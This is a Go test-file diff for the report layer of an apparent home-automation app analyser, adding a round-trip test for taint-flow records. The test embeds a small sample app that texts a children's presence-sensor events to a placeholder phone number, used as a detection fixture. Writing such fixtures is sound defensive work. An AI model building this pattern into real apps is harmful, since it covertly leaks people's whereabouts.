@@ -2,6 +2,7 @@ package report
 
 import (
 	"bytes"
+	"reflect"
 	"strings"
 	"testing"
 
@@ -34,7 +35,7 @@ func TestRecordDeterministic(t *testing.T) {
 	if !bytes.Equal(b1, b2) {
 		t.Fatalf("two runs encoded differently:\n%s\n---\n%s", b1, b2)
 	}
-	if !strings.Contains(string(b1), `"schema":1`) {
+	if !strings.Contains(string(b1), `"schema":2`) {
 		t.Fatalf("record is not versioned: %s", b1)
 	}
 }
@@ -76,6 +77,69 @@ func TestRecordRoundTrip(t *testing.T) {
 	}
 	if back.Model != nil || back.Kripke != nil {
 		t.Fatalf("rehydrated analysis should be model-less")
+	}
+}
+
+// leakyApp exfiltrates event data over SMS — a T.2 flow the record
+// must persist in full.
+const leakyApp = `
+definition(name: "leaky", namespace: "t", author: "t")
+preferences {
+    section("Devices") {
+        input "kids", "capability.presenceSensor"
+    }
+}
+def installed() { subscribe(kids, "presence.not present", h) }
+def h(evt) {
+    sendSms("555-0100", "left: ${evt.displayName}")
+}
+`
+
+// TestRecordTaintFlowsRoundTrip requires taint flows to survive the
+// encode/decode/rehydrate cycle byte-identically: a store cache hit
+// must serve the same flow section a fresh analysis would.
+func TestRecordTaintFlowsRoundTrip(t *testing.T) {
+	an, err := core.AnalyzeSources(core.DefaultOptions(),
+		core.NamedSource{Name: "leaky", Source: leakyApp})
+	if err != nil {
+		t.Fatalf("analyze: %v", err)
+	}
+	if len(an.TaintFlows) == 0 {
+		t.Fatal("leaky app produced no taint flows")
+	}
+	rec := FromAnalysis(an)
+	if len(rec.TaintFlows) != len(an.TaintFlows) {
+		t.Fatalf("record has %d flows, analysis %d", len(rec.TaintFlows), len(an.TaintFlows))
+	}
+	b, err := Encode(rec)
+	if err != nil {
+		t.Fatalf("encode: %v", err)
+	}
+	if !strings.Contains(string(b), `"taint_flows":[{`) {
+		t.Fatalf("record lacks a populated taint_flows section: %s", b)
+	}
+	got, err := Decode(b)
+	if err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	back := ToAnalysis(got)
+	b2, err := Encode(FromAnalysis(back))
+	if err != nil {
+		t.Fatalf("re-encode: %v", err)
+	}
+	// The rehydrated analysis is model-less (state counts are not
+	// persisted), so compare the flow sections the store contract
+	// covers rather than whole records.
+	got2, err := Decode(b2)
+	if err != nil {
+		t.Fatalf("re-decode: %v", err)
+	}
+	if !reflect.DeepEqual(got2.TaintFlows, rec.TaintFlows) {
+		t.Fatalf("taint flows did not survive rehydration:\n%+v\n---\n%+v",
+			got2.TaintFlows, rec.TaintFlows)
+	}
+	if len(got2.Violations) != len(rec.Violations) {
+		t.Fatalf("rehydrated %d violations, want %d", len(got2.Violations), len(rec.Violations))
 	}
 }
 
